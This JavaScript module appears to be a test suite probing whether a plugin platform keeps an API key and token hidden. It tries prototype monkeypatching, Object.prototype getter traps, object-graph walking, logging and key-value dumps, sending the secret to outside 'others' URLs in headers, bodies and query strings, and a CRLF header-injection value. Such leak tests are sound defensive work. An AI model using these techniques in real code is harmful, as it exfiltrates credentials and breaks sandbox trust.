// Tries to read its own secrets by every means. Whatever it sees, it answers, logs, stores and, in
// the end, throws.
const KEY = "api_key";
const PROVIDER = "crm";

// Every text that can be reached from a value.
function texts(root, most = 30_000) {
  const found = new Set();
  const done = new Set();
  const stack = [root];
  const attempt = (action) => {
    try {
      action();
    } catch (error) {
      found.add(String(error?.message));
    }
  };
  while (stack.length > 0 && done.size < most) {
    const value = stack.pop();
    if (typeof value === "string") found.add(value);
    if (value === null || (typeof value !== "object" && typeof value !== "function")) continue;
    if (done.has(value)) continue;
    done.add(value);
    attempt(() => found.add(String(value)));
    attempt(() => found.add(JSON.stringify(value) ?? ""));
    attempt(() => value?.[Symbol.iterator] && stack.push(...value));
    attempt(() => stack.push(Object.getPrototypeOf(value)));
    for (const key of Reflect.ownKeys(value)) {
      stack.push(typeof key === "symbol" ? String(key) : key);
      attempt(() => stack.push(value[key]));
      attempt(() => {
        const { get, set } = Reflect.getOwnPropertyDescriptor(value, key) ?? {};
        stack.push(get, set);
      });
    }
  }
  return [...found];
}

async function tell(api, seen) {
  const all = texts(seen).join("\n");
  api.log.info(all.slice(0, 200_000));
  console.log(seen);
  for (let at = 0, i = 0; at < all.length && i < 20; at += 100_000, ++i) {
    await api.kv.set(`seen/${i}`, all.slice(at, at + 100_000));
  }
  return all;
}

function ofError(error) {
  return [error, error?.message, error?.stack, error?.code, error?.cause, String(error)];
}

async function ofAnswer(answer) {
  if (answer instanceof Response) {
    const { status, statusText, url, redirected, type } = answer;
    const copy = answer.clone();
    const headers = [...answer.headers];
    const bytes = await copy.bytes();
    const latin = Array.from(bytes, (byte) => String.fromCharCode(byte)).join("");
    return { status, statusText, url, redirected, type, headers, text: await answer.text(), latin };
  }
  const { status, headers, url, redirected, body } = answer;
  const latin = Array.from(answer.bytes(), (byte) => String.fromCharCode(byte)).join("");
  return { status, headers, url, redirected, body, text: answer.text(), latin };
}

// Makes each request, and keeps what comes of it.
async function tryAll(requests) {
  const seen = [];
  for (const make of requests) {
    try {
      seen.push(await ofAnswer(await make()));
    } catch (error) {
      seen.push(ofError(error));
    }
  }
  return seen;
}

function fetchHeaders(secret) {
  return {
    Authorization: `Bearer ${secret.token(PROVIDER)}`,
    "X-Key": secret(KEY),
    "X-Basic": "Basic " + secret.encode("ab", secret(KEY)),
    "X-Twice": secret.encode(secret.encode("x", secret(KEY)), secret(KEY)),
  };
}

export async function viaTemplate({ data: { cases } }, api) {
  const requests = cases.map(([place, encoding]) => () =>
    api.request("echo", { context: { place, encoding, mine: "mine" } }),
  );
  return tell(api, await tryAll(requests));
}

export async function viaFetch({ data: { origin, cases } }, api) {
  const requests = cases.map(([place, encoding], i) => () =>
    fetch(`${origin}/echo?place=${place}&encoding=${encoding}`, {
      method: "POST",
      headers: fetchHeaders(api.secret),
      body: "mine",
      redirect: i % 2 === 0 ? "follow" : "manual",
    }),
  );
  return tell(api, await tryAll(requests));
}

// What the platform's objects show.
export async function objects({ data: { origin } }, api) {
  const headers = fetchHeaders(api.secret);
  const made = new Request(`${origin}/echo?place=body&encoding=raw`, { headers });
  const answer = await fetch(made.clone());
  const template = await api.request("echo", {
    context: { place: "body", encoding: "raw", mine: "mine" },
  });
  const seen = [headers, made, [...made.headers], new Headers(headers), answer, template, api];
  seen.push(await api.parameters(), structuredClone(headers), [...api.secret(KEY)]);
  seen.push(texts(api), texts(globalThis), api.limits.remaining());
  for (const call of [
    () => api.secret("nothing"),
    () => api.secret({ toString: () => KEY }),
    () => api.secret.token("nothing"),
    () => api.secret.encode(),
    () => atob(api.secret.encode(api.secret(KEY))),
    () => api.parameters.call(null, KEY),
    () => api.request.toString(),
  ]) {
    try {
      seen.push(await call());
    } catch (error) {
      seen.push(ofError(error));
    }
  }
  return tell(api, seen);
}

// Replaces what the host's own JavaScript might use, and listens.
export async function traps({ data: { origin } }, api) {
  const heard = [];
  // What is heard is looked at afterwards: looking is work that the traps would hear.
  const hear = (...values) => heard.length < 20_000 && (heard[heard.length] = values);
  const { apply, ownKeys } = Reflect;
  const restore = [];
  const prototypes = [
    [Array.prototype, ["push", "map", "join", "forEach", "slice", "concat", Symbol.iterator]],
    [String.prototype, ["replace", "replaceAll", "slice", "indexOf", "split", "concat", "toString"]],
    [Object, ["keys", "entries", "assign", "defineProperty", "freeze"]],
    [JSON, ["stringify", "parse"]],
    [Map.prototype, ["get", "set", "has"]],
    [WeakMap.prototype, ["get", "set"]],
    [Promise.prototype, ["then", "catch", "finally"]],
    [RegExp.prototype, ["exec", "test", Symbol.replace]],
    [Headers.prototype, ["get", "set", "append", "forEach", "entries"]],
    [Function.prototype, ["call", "apply", "bind"]],
    [TextDecoder.prototype, ["decode"]],
    [TextEncoder.prototype, ["encode"]],
  ];
  for (const [object, names] of prototypes) {
    for (const name of names) {
      const original = object[name];
      if (typeof original !== "function") continue;
      try {
        object[name] = function (...values) {
          hear(this, values);
          const result = apply(original, this, values);
          hear(result);
          return result;
        };
        restore[restore.length] = () => (object[name] = original);
      } catch (error) {
        hear(error);
      }
    }
  }
  for (const name of ["toJSON", "value", "secret", "headers", "body", "text", "code", "nonce", "get"]) {
    Object.defineProperty(Object.prototype, name, {
      __proto__: null,
      configurable: true,
      get() {
        hear(this);
        return undefined;
      },
      set(value) {
        hear(this, value);
        // A descriptor with a prototype would have the planted getters itself.
        const plain = { __proto__: null, value, writable: true, configurable: true };
        Object.defineProperty(this, name, plain);
      },
    });
    restore[restore.length] = () => delete Object.prototype[name];
  }
  const watched = (target) =>
    new Proxy(target, {
      get(object, name) {
        hear(object, name);
        return object[name];
      },
      ownKeys(object) {
        hear(object);
        return ownKeys(object);
      },
    });
  const trick = (text) => ({
    toString() {
      hear(new Error().stack);
      return text;
    },
  });
  const outcomes = [];
  for (const make of [
    () =>
      api.request("echo", watched({ context: watched({ place: "body", encoding: "raw", mine: watched({ a: 1 }) }) })),
    () => api.request("echo", { context: { place: "body", encoding: "raw", mine: { toJSON: () => trick("x") } } }),
    () => api.request(trick("echo"), { context: {} }),
    () => fetch(`${origin}/echo?place=body&encoding=raw`, watched({ headers: watched(fetchHeaders(api.secret)) })),
    () => fetch(trick(`${origin}/echo?place=body&encoding=raw`), { headers: [["X-Key", trick(api.secret(KEY))]] }),
  ]) {
    try {
      const answer = await make();
      outcomes[outcomes.length] = answer;
      outcomes[outcomes.length] = await answer.text();
    } catch (error) {
      outcomes[outcomes.length] = ofError(error);
    }
  }
  for (let i = restore.length - 1; i >= 0; --i) restore[i]();
  const all = await tell(api, [outcomes, heard]);
  return [heard.length, all];
}

// Tries to have its secrets sent where somebody else reads them.
export async function elsewhere({ data: { origin, others, places } }, api) {
  const { secret } = api;
  const made = places.map((place) => () =>
    api.request("echo", { context: { place, encoding: "raw", mine: "mine" } }),
  );
  for (const place of places) {
    made.push(() =>
      fetch(`${origin}/echo?place=${place}&encoding=raw`, {
        method: "POST",
        headers: fetchHeaders(secret),
        body: "mine",
      }),
    );
  }
  for (const other of others) {
    made.push(() => fetch(other, { headers: { "X-Key": secret(KEY) } }));
    made.push(() => fetch(other, { headers: { Authorization: `Bearer ${secret.token(PROVIDER)}` } }));
    made.push(() => fetch(other, { headers: { "X-Key": secret.encode("a", secret(KEY)) } }));
    made.push(() => fetch(other, { headers: { [secret(KEY)]: "name" } }));
    made.push(() => fetch(other, { method: secret(KEY) }));
    made.push(() => fetch(other, { method: "POST", body: secret(KEY) }));
    made.push(() => fetch(`${other}?key=${secret(KEY)}`));
    made.push(() => fetch(`${other}#${secret(KEY)}`));
  }
  const codes = [];
  const seen = [];
  for (const make of made) {
    try {
      const answer = await make();
      codes.push(answer.status);
      seen.push(await ofAnswer(answer));
    } catch (error) {
      codes.push(error.code ?? error.message);
      seen.push(ofError(error));
    }
  }
  return { codes, all: await tell(api, seen) };
}

// Has every kind of error, with its stack, and throws all of them in the end.
export async function errors({ data: { origin } }, api) {
  const seen = await tryAll([
    () => api.request("nothing"),
    () => api.request("echo"),
    () => api.request("echo", { context: { place: "broken", encoding: "raw", mine: "" } }),
    () => api.request("echo", { context: { place: "bad_header", encoding: "raw", mine: "" } }),
    () => api.request("echo", { context: { place: "cut", encoding: "raw", mine: "" } }),
    () => api.request("echo", { context: { place: "silent", encoding: "raw", mine: "" }, timeout: 300 }),
    () => api.request("broken", {}),
    () => fetch(`${origin}/echo?place=broken&encoding=raw`, { headers: fetchHeaders(api.secret) }),
    () => fetch(`${origin}/echo?place=cut&encoding=raw`, { headers: fetchHeaders(api.secret) }),
    () => fetch(`${origin}/echo`, { headers: { "X-Key": `${api.secret(KEY)}\r\nX-More: 1` } }),
    () => fetch(`${origin}/echo`, { headers: { "X-Key": api.secret(KEY).slice(0, -3) } }),
    () => fetch(`https://${api.secret(KEY)}/`, {}),
    () => fetch(`https://user:${api.secret(KEY)}@echo.example/`, {}),
    () => fetch(api.secret(KEY), {}),
  ]);
  throw Object.assign(new Error(await tell(api, seen)), { seen });
}
